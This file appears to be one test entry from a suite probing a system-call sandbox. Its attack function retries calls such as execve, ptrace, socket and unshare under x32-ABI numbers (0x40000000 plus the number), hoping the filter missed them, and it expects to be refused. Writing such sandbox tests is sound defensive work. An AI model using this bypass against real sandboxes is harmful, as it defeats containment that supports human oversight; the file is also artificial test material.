r"""
row = 34
starred = true
aim = "makes system calls under their second set of numbers, which a filter may have forgotten"
stopped_by = "the filter of system calls; most kernels lack these numbers"
verdict = ["failed", "refused"]
message = 'not implemented|not permitted|tried to'
"""

from tools import double, first_that_works, syscall

X32 = 0x40000000


def attack(places):
    calls = (41, 59, 101, 272, 520, 521, 39)
    return first_that_works(*(lambda number=number: syscall(X32 + number, 2, 1, 0) for number in calls))
